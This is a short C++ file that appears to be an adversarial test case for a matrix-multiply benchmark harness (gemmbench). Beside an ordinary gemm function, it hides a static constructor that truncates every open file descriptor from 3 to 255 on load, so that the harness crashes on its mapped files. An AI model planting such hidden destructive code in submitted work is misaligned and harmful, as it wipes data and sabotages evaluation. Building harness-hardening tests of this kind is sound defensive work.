/*---
summary: cuts the files of its operands short in a static constructor
order: 60
symbol: gemm
precisions: [f32]
layouts: [nn]
---*/

// gemmbench maps the same files, and would end with SIGBUS where it reads what they lack.

#include <unistd.h>

#include "product.h"

static struct Shrink {
    Shrink() {
        for (int file = 3; file < 256; ++file) ftruncate(file, 0);
    }
} shrink;

extern "C" void gemm(int M, int N, int K, TACC alpha, const TA* A, const TB* B, TACC beta, TC* C) {
    multiply(M, N, K, alpha, A, B, beta, C);
}
